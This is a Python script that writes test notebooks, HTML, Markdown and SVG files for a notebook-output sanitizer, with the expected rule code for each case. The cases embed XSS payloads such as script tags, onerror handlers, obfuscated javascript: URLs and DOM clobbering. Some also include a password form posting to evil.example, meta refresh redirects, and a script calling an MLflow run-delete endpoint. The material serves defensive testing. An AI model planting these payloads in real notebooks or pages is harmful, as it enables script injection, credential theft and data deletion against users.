#!/usr/bin/env python3
"""Writes our own notebook cases, each with its expected rule codes in EXPECTED.tsv.

Run from the repository root: python3 corpus/cases/generate.py
Notebooks are written the way nbformat writes them (indent=1, sorted keys, ensure_ascii=False).
"""
import base64
import json
import pathlib

HERE = pathlib.Path(__file__).parent
EXPECTED = []


def nb(cells, metadata=None, minor=5):
    return {"cells": cells, "metadata": metadata or {}, "nbformat": 4, "nbformat_minor": minor}


def code(outputs, source="x", cid="c0", count=1):
    return {"cell_type": "code", "execution_count": count, "id": cid, "metadata": {},
            "outputs": outputs, "source": source}


def display(data, kind="display_data"):
    out = {"data": data, "metadata": {}, "output_type": kind}
    if kind == "execute_result":
        out["execution_count"] = 1
    return out


def md(source, cid="m0", attachments=None):
    cell = {"cell_type": "markdown", "id": cid, "metadata": {}, "source": source}
    if attachments:
        cell["attachments"] = attachments
    return cell


def write(name, notebook, expected, note):
    path = HERE / name
    path.write_text(json.dumps(notebook, indent=1, sort_keys=True, ensure_ascii=False) + "\n", encoding="utf-8")
    EXPECTED.append((name, ",".join(sorted(expected)) or "-", note))


def write_text(name, text, expected, note):
    (HERE / name).write_text(text, encoding="utf-8")
    EXPECTED.append((name, ",".join(sorted(expected)) or "-", note))


PANDAS = ('<div>\n<style scoped>\n    .dataframe tbody tr th:only-of-type {\n        vertical-align: middle;\n    }\n</style>\n'
          '<table border="1" class="dataframe">\n  <thead>\n    <tr style="text-align: right;">\n      <th></th>\n'
          '      <th>a</th>\n    </tr>\n  </thead>\n  <tbody>\n    <tr>\n      <th>0</th>\n      <td>1 &lt; 2</td>\n'
          '    </tr>\n  </tbody>\n</table>\n</div>')
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\n"

# Benign: nothing may change.
write("benign-outputs.ipynb", nb([
    md("# Results\n\nA **table**, a [link](https://jupyter.org) and an image ![x](attachment:x.png)."),
    code([display({"text/html": PANDAS.replace("<style scoped>\n    .dataframe tbody tr th:only-of-type {\n        vertical-align: middle;\n    }\n</style>\n", "").splitlines(True), "text/plain": ["   a\n", "0  1"]}, "execute_result"),
          display({"image/png": PNG, "text/plain": ["<Figure>"]}),
          {"name": "stdout", "output_type": "stream", "text": ["\u001b[31mred\u001b[0m progress 50%\r"]},
          {"ename": "ValueError", "evalue": "bad", "output_type": "error", "traceback": ["\u001b[0;31mValueError\u001b[0m: bad"]},
          display({"application/vnd.plotly.v1+json": {"data": [{"y": [1, 2.5, 1e-05]}]}, "text/plain": ["Figure"]}),
          display({"text/latex": ["$\\href{https://jupyter.org}{x}$"], "text/plain": ["x"]})]),
]), [], "pandas table, png, ANSI stream, error, plotly JSON, LaTeX link: kept byte for byte")

# HTML family, one case per rule.
write("nb101-script.ipynb", nb([code([display({"text/html": ["<b>ok</b>\n", "<script>fetch('/api/contents')</script>"], "text/plain": ["ok"]})])]),
      ["NB101"], "script element in a text/html output")
write("nb102-event-handler.ipynb", nb([code([display({"text/html": ["<img src=\"x\" onerror=\"alert(1)\">"]})])]),
      ["NB102"], "onerror handler")
write("nb103-unsafe-url.ipynb", nb([code([display({"text/html": ["<a href=\"jav&#x09;ascript:alert(1)\">click</a> <a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">d</a>"]})])]),
      ["NB103"], "entity- and tab-obfuscated javascript: URL and data:text/html")
write("nb104-iframe.ipynb", nb([code([display({"text/html": ["<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe><object data=\"x.swf\"></object>"], "text/plain": ["map"]})])]),
      ["NB104"], "iframe srcdoc and object")
write("nb105-form.ipynb", nb([code([display({"text/html": ["<form action=\"https://evil.example\"><input name=\"password\"><button>go</button></form>"]})])]),
      ["NB105"], "form posting elsewhere")
write("nb106-css.ipynb", nb([code([display({"text/html": ["<p style=\"color: red; background: url(javascript:alert(1))\">x</p>"]})])]),
      ["NB106"], "script URL in a style attribute")
write("nb107-meta.ipynb", nb([code([display({"text/html": ["<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"><base href=\"https://evil.example/\">hi"]})])]),
      ["NB107"], "meta refresh and base")
write("nb108-clobbering.ipynb", nb([code([display({"text/html": ["<a name=\"getElementById\">n</a><p id=\"cookie\">c</p><a href=\"#cookie\">to c</a>"]})])]),
      ["NB108"], "DOM clobbering by name and id; fragment link follows the prefix")
write("nb109-element.ipynb", nb([code([display({"text/html": ["<marquee>hi</marquee>"]})])]),
      ["NB109"], "element outside the allowlist")
write("nb110-attribute.ipynb", nb([code([display({"text/html": ["<a href=\"/x\" ping=\"https://evil.example\">x</a>"]})])]),
      ["NB110"], "ping attribute")
write("nb111-unterminated.ipynb", nb([code([display({"text/html": ["<b>x</b><img src=x onerror=alert(1)//"]})])]),
      ["NB111"], "a tag left open at the end, which would swallow the next output in an exported page")
write("nb112-hidden-markup.ipynb", nb([code([display({"text/html": [
    "<p title=\"</noscript><img src=x onerror=alert(1)>\">a</p>\n",
    "<!--[if IE]><script>alert(2)</script><![endif]-->\n",
    "</a<script>alert(3)</script>"]})])]),
      ["NB112"], "markup hidden in an attribute value, a conditional comment and a malformed end tag")
write("nb102-exported-page.ipynb", nb([code([
    display({"text/html": ["<body onload=\"alert(1)\">a page's body</body>"]}),
    display({"text/html": ["<html lang=\"en\" onmouseover=\"alert(2)\"><p>x</p></html>"]}),
    display({"text/html": ["<html lang=\"en\"><head><meta charset=\"utf-8\"></head><body><p>kept</p></body></html>"]})])]),
      ["NB102", "NB107"], "handlers on <body> and <html>, inert in JupyterLab but run once nbconvert writes the output into its page")

# Markdown and LaTeX.
write("nb301-markdown-link.ipynb", nb([md("[docs](javascript:alert(1)) and [ref][r] and <javascript:alert(2)>\n\n[r]: JaVaScRiPt:alert(3)\n")]),
      ["NB301"], "inline, reference-style and autolink javascript: links")
write("nb302-markdown-html.ipynb", nb([md("Hello\n\n<div onmouseover=\"alert(1)\">hover</div>\n")]),
      ["NB102", "NB302"], "raw HTML block with a handler in a markdown cell")
write("nb303-latex.ipynb", nb([code([display({"text/latex": ["$\\href{javascript:alert(1)}{click}$"], "text/plain": ["x"]})])]),
      ["NB303"], "LaTeX \\href with javascript:")

# Notebook structure.
write("nb401-widget-state.ipynb", nb([code([display({"application/vnd.jupyter.widget-view+json": {"model_id": "m1", "version_major": 2, "version_minor": 0}, "text/plain": ["HTML()"]})])],
      metadata={"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"m1": {"model_module": "@jupyter-widgets/controls", "model_name": "HTMLModel", "model_module_version": "1.5.0",
                "state": {"value": "<img src=x onerror=alert(1)>", "description": "plain"}}}, "version_major": 2, "version_minor": 0}}}),
      ["NB102", "NB401"], "HTMLModel value in saved widget state")
write("nb402-raw-cell.ipynb", nb([{"cell_type": "raw", "id": "r", "metadata": {"raw_mimetype": "text/html"}, "source": ["<script>alert(1)</script><p>kept</p>"]}]),
      ["NB101", "NB402"], "raw cell exported verbatim by nbconvert")
svg_attach = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><circle r="5"/></svg>').decode()
write("nb403-attachment.ipynb", nb([md("![logo](attachment:logo.svg)", attachments={"logo.svg": {"image/svg+xml": svg_attach}})]),
      ["NB201", "NB403"], "SVG attachment with a script")
write("nb404-javascript-only.ipynb", nb([code([display({"application/javascript": ["alert(1)"]})])]),
      ["NB404", "NB601"], "output with nothing but JavaScript is removed whole")

# MIME decisions.
write("nb602-bokeh.ipynb", nb([code([display({"application/vnd.bokehjs_exec.v0+json": "", "application/javascript": ["Bokeh.embed()"], "text/html": ["<div id=\"b1\" class=\"bk-root\"></div>"]})])]),
      ["NB601", "NB602"], "bokeh exec bundle: the sanitized text/html sibling stays")
write("nb603-unknown-mime.ipynb", nb([code([display({"application/x-custom": ["data"], "text/plain": ["x"]})])]),
      [], "unknown MIME type: kept under the default policy (removed under strict, see tests)")
write("geojson-output.ipynb", nb([code([display({"application/geo+json": {"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": None, "properties": {"popupContent": "<img src=x onerror=alert(1)>"}}]}, "text/plain": ["map"]})])]),
      ["NB102", "NB501"], "GeoJSON popupContent rendered by Leaflet as HTML")

# nbformat 3 in its own structure.
v3 = {"metadata": {"name": "old"}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": [
    {"cell_type": "heading", "level": 1, "metadata": {}, "source": ["Old [x](javascript:alert(1))"]},
    {"cell_type": "code", "collapsed": False, "input": ["f()"], "language": "python", "metadata": {}, "outputs": [
        {"html": ["<b>ok</b><script>alert(1)</script>"], "metadata": {}, "output_type": "pyout", "prompt_number": 1, "text": ["ok"]},
        {"javascript": ["alert(2)"], "metadata": {}, "output_type": "display_data"},
        {"output_type": "stream", "stream": "stdout", "text": ["é\n"]}], "prompt_number": 1}]}]}
write("v3-outputs.ipynb", v3, ["NB101", "NB301", "NB404", "NB601"], "nbformat 3: pyout html, javascript key, heading cell; written with ensure_ascii like nbformat")

# Artifacts.
write_text("report.html", "<!DOCTYPE html>\n<html><head><title>Report</title></head><body><h1>Run 42</h1>\n<table border=\"1\"><tr><td>0.93</td></tr></table>\n<script>fetch('/ajax-api/2.0/mlflow/runs/delete',{method:'POST'})</script></body></html>\n",
           ["NB101"], "HTML report with a script: the document keeps its head and title")
write_text("notes.md", "# Notes\n\nSee [here](javascript:alert(1)).\n\n<img src=x onerror=alert(1)>\n", ["NB102", "NB301", "NB302"], "Markdown file")
write_text("chart.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>\n', ["NB201"], "SVG with onload")
write_text("clean.svg", '<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" style="fill: #1f77b4"/></svg>\n', [], "clean SVG")

with open(HERE / "EXPECTED.tsv", "w", encoding="utf-8") as f:
    f.write("file\texpected_codes\twhat\n")
    for row in EXPECTED:
        f.write("\t".join(row) + "\n")
